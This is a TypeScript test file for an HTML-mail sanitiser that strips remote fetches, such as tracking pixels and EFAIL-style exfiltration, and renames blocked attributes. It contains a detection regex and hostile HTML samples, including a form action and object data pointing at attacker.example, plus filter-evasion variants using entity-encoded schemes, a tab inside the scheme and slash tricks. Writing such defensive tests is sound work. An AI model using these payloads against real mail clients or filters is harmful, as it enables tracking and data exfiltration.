// EFAIL-style exfiltration and tracking: an HTML body must not make the browser fetch
// anything. The sandboxed frame's CSP blocks it; blockRemoteContent keeps the request from
// even being attempted (a Playwright walk saw Chromium report the blocked pixel request).
import { describe, expect, it } from 'vitest';
import { blockRemoteContent, htmlBodyDocument } from '../../src/lib/ui/tickets/html-body';

const remote = /(?:[\s/"'](?:src|srcset|background|poster|action|data|formaction)\s*=\s*["']?\s*(?:https?:|\/\/|ftp:))|url\(\s*["']?\s*(?:https?:|\/\/)|@import|<link\b/i;

describe('remote content in HTML mail', () => {
	const cases: [string, string][] = [
		['tracking pixel', '<img src="https://tracker.example/p.png" alt="">'],
		['unquoted, upper case', '<IMG SRC=http://tracker.example/p.png>'],
		['protocol-relative', "<img src='//tracker.example/p.png'>"],
		['srcset', '<img srcset="https://tracker.example/a.png 1x">'],
		['table background', '<td background="https://tracker.example/bg.png">x</td>'],
		['video poster', '<video poster="https://tracker.example/v.png"></video>'],
		['form action (EFAIL direct exfiltration)', '<form action="https://attacker.example/"><input></form>'],
		['object data', '<object data="https://attacker.example/x"></object>'],
		['CSS url()', '<div style="background:url( \'https://tracker.example/c.png\' )">x</div>'],
		['CSS @import', '<style>@import url("https://tracker.example/s.css"); p{color:red}</style>'],
		['stylesheet link', '<link rel="stylesheet" href="https://tracker.example/s.css">'],
		['slash before the attribute', '<img/src="https://tracker.example/p.png">'],
		['no space after a quoted value', '<img alt=""src="https://tracker.example/p.png">']
	];
	it.each(cases)('%s is neutralised', (_name, html) => {
		const out = blockRemoteContent(html);
		expect(out).not.toMatch(remote);
		expect(htmlBodyDocument(html)).not.toMatch(remote);
	});

	// Forms the HTML and URL parsers accept but a pattern for "a scheme" does not see: only
	// data:, cid: and fragments are let through, everything else is renamed.
	const hidden: [string, string, string][] = [
		['entity-encoded scheme', '<img src="&#104;ttps://tracker.example/p.png">', 'src'],
		['hex entity scheme', '<img src=&#x68;ttp://tracker.example/p.png>', 'src'],
		['tab inside the scheme', '<img src="ht\ttps://tracker.example/p.png">', 'src'],
		['relative path (the parent origin)', '<img src="/api/track?id=1">', 'src'],
		['srcset with data: first', '<img srcset="data:image/png;base64,AAAA 1x, https://tracker.example/p.png 2x">', 'srcset'],
		['background after a slash', '<table/background=//tracker.example/bg.png>', 'background']
	];
	it.each(hidden)('%s is renamed', (_name, html, attribute) => {
		const out = blockRemoteContent(html);
		expect(out).toContain(`data-blocked-${attribute}=`);
		expect(out).not.toMatch(new RegExp(`[\\s/"']${attribute}\\s*=`, 'i'));
	});

	it('neutralises CSS image-set strings and url()s that are not inline data', () => {
		const out = blockRemoteContent('<div style="background-image:image-set(\'https://tracker.example/a.png\' 1x);list-style:url(/track.png)">x</div>');
		expect(out).toBe('<div style="background-image:none;list-style:url(about:blank)">x</div>');
	});

	it('is stable: blocking twice changes nothing more', () => {
		const html = '<img/src="https://t.example/p.png"><img alt=""src=//t.example/q.png>';
		const once = blockRemoteContent(html);
		expect(blockRemoteContent(once)).toBe(once);
	});

	it('keeps data: images, cid: references, anchors and links', () => {
		const html = '<img src="data:image/png;base64,AAAA"><img src="cid:logo@x"><a href="#top">top</a><a href="https://example.org/">site</a>';
		expect(blockRemoteContent(html)).toBe(html);
	});

	it('keeps the blocked address visible for the agent', () => {
		expect(blockRemoteContent('<img src="https://tracker.example/p.png">')).toBe('<img data-blocked-src="https://tracker.example/p.png">');
	});
});
